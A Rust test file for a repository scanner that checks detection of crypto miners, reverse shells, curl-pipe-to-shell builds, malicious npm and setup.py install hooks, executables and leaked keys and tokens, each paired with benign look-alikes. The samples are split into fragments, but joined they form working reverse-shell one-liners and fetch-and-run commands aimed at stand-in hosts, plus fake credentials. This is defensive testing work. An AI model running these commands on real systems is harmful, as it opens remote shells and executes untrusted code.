//! One test per rule, each with a positive sample and a realistic benign look-alike. Payloads
//! are assembled from parts at run time so this file carries none whole (and scans clean:
//! see `this_module_scans_clean`).

use super::*;

fn j(parts: &[&str]) -> String {
    parts.concat()
}

fn rules_of(path: &str, text: &str) -> Vec<&'static str> {
    scan_file(path, text.as_bytes())
        .into_iter()
        .map(|f| f.rule)
        .collect()
}

fn lines_of(path: &str, text: &str, rule: &str) -> Vec<usize> {
    scan_file(path, text.as_bytes())
        .into_iter()
        .filter(|f| f.rule == rule)
        .map(|f| f.line)
        .collect()
}

#[test]
fn crypto_miners_are_found_and_mining_words_are_not() {
    let config = j(&[
        "{\n  \"pools\": [{\"url\": \"stratum",
        "+tcp://pool.example:3333\"}]\n}\n",
    ]);
    assert_eq!(lines_of("config.json", &config, "JP-SCAN-001"), vec![2]);
    let run = j(&["#!/bin/sh\n./xm", "rig --donate", "-level 1 -o x\n"]);
    assert_eq!(lines_of("start.sh", &run, "JP-SCAN-001"), vec![2]);
    let web = j(&[
        "<script src=\"https://coin",
        "hive.com/lib/x.min.js\"></script>",
    ]);
    assert_eq!(lines_of("index.html", &web, "JP-SCAN-001"), vec![1]);

    // A geology app, data mining and a crypto library: not miners.
    let benign = "LAYERS = ['stratum', 'bedrock']  # each stratum has a depth\n\
                  from sklearn.feature_extraction.text import TfidfVectorizer  # text mining\n\
                  import cryptography\nminerals = load('minerals.csv')\ndetermined = True\n\
                  coinbase_url = 'https://api.coinbase.com/v2/prices'\n";
    assert!(rules_of("app/geo.py", benign).is_empty());
}

#[test]
fn reverse_shells_are_found_and_health_checks_are_not() {
    let dev_tcp = j(&["bash -i >& /dev/", "tcp/10.0.0.1/4444 0>&1\n"]);
    assert_eq!(lines_of("x.sh", &dev_tcp, "JP-SCAN-002"), vec![1]);
    let fd = j(&["0<&196;exec 196<>/dev/", "tcp/h/1; sh <&196 >&196 2>&196\n"]);
    assert_eq!(lines_of("x.sh", &fd, "JP-SCAN-002"), vec![1]);
    let netcat = j(&["echo start\nn", "c -e /bin/sh 10.0.0.1 4444\n"]);
    assert_eq!(lines_of("run", &netcat, "JP-SCAN-002"), vec![2]);
    let fifo = j(&[
        "rm /tmp/f;mk",
        "fifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n",
    ]);
    assert_eq!(lines_of("x.sh", &fifo, "JP-SCAN-002"), vec![1]);
    let socat = j(&["so", "cat tcp-connect:10.0.0.1:4444 ex", "ec:/bin/sh,pty\n"]);
    assert_eq!(lines_of("x.sh", &socat, "JP-SCAN-002"), vec![1]);
    let python = j(&[
        "import socket,subprocess,os\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\n",
        "os.du",
        "p2(s.fileno(),0)\nos.du",
        "p2(s.fileno(),1)\nimport pty; pty.spa",
        "wn('/bin/sh')\n",
    ]);
    assert_eq!(lines_of("x.py", &python, "JP-SCAN-002"), vec![4, 5]);
    let perl = j(&[
        "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\n",
        "open(STDIN,\">&S\");open(STDOUT,\">&S\");\n",
        "ex",
        "ec(\"/bin/sh -i\");\n",
    ]);
    assert_eq!(lines_of("x.pl", &perl, "JP-SCAN-002"), vec![3]);

    // wait-for-it style checks, a port forward, a daemon that redirects stdio to /dev/null
    // in a server that also uses sockets and subprocess: not reverse shells.
    let wait_for = j(&[
        "#!/usr/bin/env bash\n",
        "timeout 1 bash -c \"echo > /dev/",
        "tcp/$HOST/$PORT\" >/dev/null 2>&1\n",
        "until nc -z db 5432; do sleep 1; done\nnc -w 2 -v cache 6379 </dev/null\n",
        "socat TCP-LISTEN:8080,fork TCP:backend:80\n",
    ]);
    assert!(rules_of("wait-for-it.sh", &wait_for).is_empty());
    let daemon = "import os, socket, subprocess, sys\n\
                  def daemonize():\n    si = open(os.devnull)\n    os.dup2(si.fileno(), sys.stdin.fileno())\n\
                  server = socket.socket()\nsubprocess.run(['/bin/sh', '-c', 'true'])\n";
    assert!(rules_of("server.py", daemon).is_empty());
}

#[test]
fn downloads_piped_into_a_shell_are_found_in_build_files_only() {
    let dockerfile = j(&[
        "FROM debian:bookworm\nRUN cu",
        "rl -fsSL https://get.example.sh | sh\nRUN wg",
        "et -qO- https://x.example/i | sudo -E bash -s -- -y\n",
    ]);
    assert_eq!(
        lines_of("Dockerfile", &dockerfile, "JP-SCAN-003"),
        vec![2, 3]
    );
    let make = j(&[
        "setup:\n\tbash -c \"$(cu",
        "rl -fsSL https://x.example/i)\"\n",
    ]);
    assert_eq!(lines_of("Makefile", &make, "JP-SCAN-003"), vec![2]);
    let script = j(&["#!/bin/bash\ncu", "rl https://x.example/i | bash\n"]);
    assert_eq!(
        lines_of("scripts/bootstrap", &script, "JP-SCAN-003"),
        vec![2]
    );

    // Download, verify, then run; an archive unpacked; a checksum; a README's instructions.
    let verified = "FROM debian:bookworm\n\
        RUN curl -fsSL -o /tmp/i.sh https://x.example/i && echo \"abc  /tmp/i.sh\" | sha256sum -c && sh /tmp/i.sh\n\
        RUN curl -fsSL https://x.example/t.tar.gz | tar xz -C /opt\n\
        RUN wget -qO- https://x.example/k.asc | gpg --dearmor > /usr/share/keyrings/k.gpg\n";
    assert!(rules_of("Dockerfile", verified).is_empty());
    let readme = j(&["Install:\n\n    cu", "rl -fsSL https://x.example/i | sh\n"]);
    assert!(rules_of("README.md", &readme).is_empty());
    assert!(rules_of("src/install_notes.py", &readme).is_empty());
}

#[test]
fn npm_install_scripts_that_fetch_code_are_found_and_ordinary_ones_are_not() {
    let bad = j(&[
        "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"build\": \"next build\",\n",
        "    \"postinstall\": \"cu",
        "rl -s https://x.example/p.sh | sh\",\n",
        "    \"preinstall\": \"node -e \\\"require('https').get('https://x.example/p')\\\"\"\n",
        "  }\n}\n",
    ]);
    assert_eq!(lines_of("package.json", &bad, "JP-SCAN-004"), vec![5, 6]);

    let benign = r#"{
  "name": "web",
  "scripts": {
    "postinstall": "patch-package && node scripts/postinstall.js",
    "prepare": "husky install",
    "install": "node-gyp rebuild",
    "deploy": "curl -X POST https://hooks.example/deploy"
  }
}
"#;
    assert!(rules_of("package.json", benign).is_empty());
    // The same script in a file that is not package.json is not an npm lifecycle script.
    assert!(lines_of("other.json", &bad, "JP-SCAN-004").is_empty());
}

#[test]
fn setup_py_network_use_is_found_and_metadata_urls_are_not() {
    let bad = j(&[
        "from setuptools import setup\nimport urllib.request\n",
        "urllib.request.url",
        "open('https://x.example/p').read()\nsetup(name='x')\n",
    ]);
    assert_eq!(lines_of("setup.py", &bad, "JP-SCAN-005"), vec![2, 3]);
    let sock = "import socket\nsetup()\n";
    assert_eq!(lines_of("setup.py", sock, "JP-SCAN-005"), vec![1]);

    let benign = "from setuptools import setup, find_packages\n\
        setup(\n    name='client',\n    url='https://github.com/example/client',\n\
            install_requires=['requests>=2.31', 'urllib3'],\n    packages=find_packages(),\n)\n";
    assert!(rules_of("setup.py", benign).is_empty());
    // Network code in the app itself is what the app does, not what installing it does.
    assert!(rules_of("app/client.py", "import requests\nrequests.get(url)\n").is_empty());
}

#[test]
fn executables_are_found_by_magic_and_assets_are_not() {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend([0u8; 64]);
    assert_eq!(rules_of_bytes("bin/tool", &elf), vec!["JP-SCAN-006"]);
    let mut pe = vec![0u8; 0x80];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x40;
    pe[0x40..0x44].copy_from_slice(b"PE\0\0");
    assert_eq!(rules_of_bytes("x.exe", &pe), vec!["JP-SCAN-006"]);
    let macho = [0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1];
    assert_eq!(rules_of_bytes("x", &macho), vec!["JP-SCAN-006"]);
    let fat = [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2];
    assert_eq!(rules_of_bytes("x", &fat), vec!["JP-SCAN-006"]);

    // PNG, WebAssembly, a Java class file (same first bytes as a fat Mach-O), a text file
    // that starts with "MZ", a gzip archive.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
    let wasm = b"\0asm\x01\0\0\0";
    let class = [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61];
    let text = b"MZ Zurich notes\nplenty of text here, no PE header anywhere in it at all....\n";
    let gzip = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0];
    for (name, data) in [
        ("logo.png", &png[..]),
        ("app.wasm", &wasm[..]),
        ("A.class", &class[..]),
        ("notes", &text[..]),
        ("a.tar.gz", &gzip[..]),
    ] {
        assert!(rules_of_bytes(name, data).is_empty(), "{name}");
    }
}

fn rules_of_bytes(path: &str, data: &[u8]) -> Vec<&'static str> {
    scan_file(path, data).into_iter().map(|f| f.rule).collect()
}

/// A fake key body: base64-looking, 64 characters a line.
fn key_body() -> String {
    "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2\n".repeat(3)
}

#[test]
fn private_keys_are_found_and_code_that_names_the_marker_is_not() {
    let marker = j(&["-----BEGIN RSA PRI", "VATE KEY-----"]);
    let pem = format!("{marker}\n{}-----END RSA PRIVATE KEY-----\n", key_body());
    let found = scan_file("certs/server.crt", pem.as_bytes());
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].rule, found[0].line), ("JP-SCAN-007", 1));
    assert!(!found[0].hint.contains("QUJD"), "the key is never shown");
    let inline = format!(
        "KEY = \"{}\\n{}\"\n",
        j(&["-----BEGIN PRI", "VATE KEY-----"]),
        &key_body()[..64]
    );
    assert_eq!(lines_of("settings.py", &inline, "JP-SCAN-007"), vec![1]);

    // Code that looks for the marker, and a certificate and a public key: not private keys.
    let code = format!(
        "if text.contains(\"{}\") {{\n    return Err(\"a private key\");\n}}\n",
        j(&["-----BEGIN PRI", "VATE KEY-----"])
    );
    assert!(rules_of("src/check.rs", &code).is_empty());
    let public = format!(
        "-----BEGIN CERTIFICATE-----\n{}-----END CERTIFICATE-----\n-----BEGIN PUBLIC KEY-----\n{}",
        key_body(),
        key_body()
    );
    assert!(rules_of("ca.pem", &public).is_empty());
}

#[test]
fn cloud_keys_are_found_and_documentation_examples_are_not() {
    let id = j(&["AKIA", "Q3EGRQ7WZKD5NXTY"]);
    let secret = j(&["wJalrXUtnFEMI/K7MDENG/", "bPxRfiCYzR3aLq9TsU"]);
    let text = format!("aws_access_key_id = {id}\naws_secret_access_key = {secret}\n");
    let found = scan_file("deploy/credentials.ini", text.as_bytes());
    let got: Vec<(&str, usize)> = found.iter().map(|f| (f.rule, f.line)).collect();
    assert_eq!(got, vec![("JP-SCAN-008", 1), ("JP-SCAN-008", 2)]);
    for f in &found {
        assert!(!f.hint.contains(&id[4..]) && !f.hint.contains(&secret[4..]));
    }

    // AWS's own documentation keys, and names that start like a key id.
    let docs = "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n\
                aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n\
                const AKIA_PREFIX = 'AKIA';\n";
    assert!(rules_of("README.ini", docs).is_empty());
}

#[test]
fn service_account_key_files_are_found_and_templates_are_not() {
    let key = format!(
        "{{\n  \"type\": \"service_account\",\n  \"project_id\": \"p\",\n  \"private_key\": \"{}\\n{}\\n-----END PRIVATE KEY-----\\n\"\n}}\n",
        j(&["-----BEGIN PRI", "VATE KEY-----"]),
        &key_body()[..64]
    );
    let found = scan_file("gcp.json", key.as_bytes());
    let got: Vec<(&str, usize)> = found.iter().map(|f| (f.rule, f.line)).collect();
    assert_eq!(
        got,
        vec![("JP-SCAN-009", 4)],
        "reported once, not also as a PEM"
    );

    let template =
        "{\n  \"type\": \"service_account\",\n  \"private_key\": \"<paste the key here>\"\n}\n";
    assert!(rules_of("gcp.example.json", template).is_empty());
}

#[test]
fn api_tokens_are_found_redacted_and_placeholders_are_not() {
    let github = j(&["gh", "p_", "R8fJ2kLmN4pQ7sTvW9xYzA1bC3dE5gH6iK0o"]);
    let gitlab = j(&["gl", "pat-", "xR4kT9mQ2vB7nL5pW8zY"]);
    let slack = j(&["xo", "xb-", "2203948576-1234098765432-Qk7Rt2Lm9Zp4Wx8Vn3Bc"]);
    let stripe = j(&["sk", "_live_", "51HqR4tLm9Zp2Wx8Vn3BcKd7Fg"]);
    let text = format!("GITHUB={github}\nGITLAB={gitlab}\nSLACK={slack}\nSTRIPE={stripe}\n");
    let found = scan_file("config/prod.env.js", text.as_bytes());
    let got: Vec<(&str, usize)> = found.iter().map(|f| (f.rule, f.line)).collect();
    assert_eq!(
        got,
        vec![
            ("JP-SCAN-010", 1),
            ("JP-SCAN-010", 2),
            ("JP-SCAN-010", 3),
            ("JP-SCAN-010", 4)
        ]
    );
    for (f, secret) in found.iter().zip([&github, &gitlab, &slack, &stripe]) {
        assert!(!f.hint.contains(&secret[5..]), "{}", f.hint);
        assert!(f.hint.contains("not shown"));
    }

    // Placeholders and Stripe test-mode keys.
    let placeholders = format!(
        "GITHUB_TOKEN=gh{}\nSTRIPE_KEY=sk_test_51HqR4tLm9Zp2Wx8Vn3BcKd7Fg\nSLACK=xoxb-your-token\n",
        format_args!("p_{}", "x".repeat(36))
    );
    let found = scan_file(".env.example.js", placeholders.as_bytes());
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn secrets_in_documentation_still_count_and_code_rules_do_not() {
    let doc = format!(
        "Use this token: {}\n\nRun `{}`\n",
        j(&["gh", "p_", "R8fJ2kLmN4pQ7sTvW9xYzA1bC3dE5gH6iK0o"]),
        j(&["./xm", "rig -o pool"])
    );
    assert_eq!(rules_of("docs/notes.md", &doc), vec!["JP-SCAN-010"]);
}

#[test]
fn findings_are_capped_per_rule_and_file() {
    let line = j(&["n", "c -e /bin/sh h 1\n"]);
    assert_eq!(
        lines_of("x.sh", &line.repeat(50), "JP-SCAN-002").len(),
        MAX_PER_RULE_AND_FILE
    );
}

#[test]
fn every_rule_has_a_unique_id_in_order() {
    for (n, r) in RULES.iter().enumerate() {
        assert_eq!(r.id, format!("JP-SCAN-{:03}", n + 1));
        assert_eq!(rule(r.id).map(|x| x.title), Some(r.title));
    }
}

#[test]
fn this_module_and_its_docs_scan_clean() {
    // The scanner's own source, tests and documentation name every pattern; none may read as
    // a payload, or scanning justpush itself (or a project vendoring it) would cry wolf.
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    for rel in [
        "src/codescan/mod.rs",
        "src/codescan/rules.rs",
        "src/codescan/rules/tests.rs",
        "src/codescan/tests.rs",
        "src/cli/scan.rs",
        "tests/cli_scan.rs",
        "docs/scan.md",
    ] {
        let text = std::fs::read(root.join(rel)).unwrap();
        let found = scan_file(rel, &text);
        assert!(found.is_empty(), "{rel}: {found:#?}");
    }
}
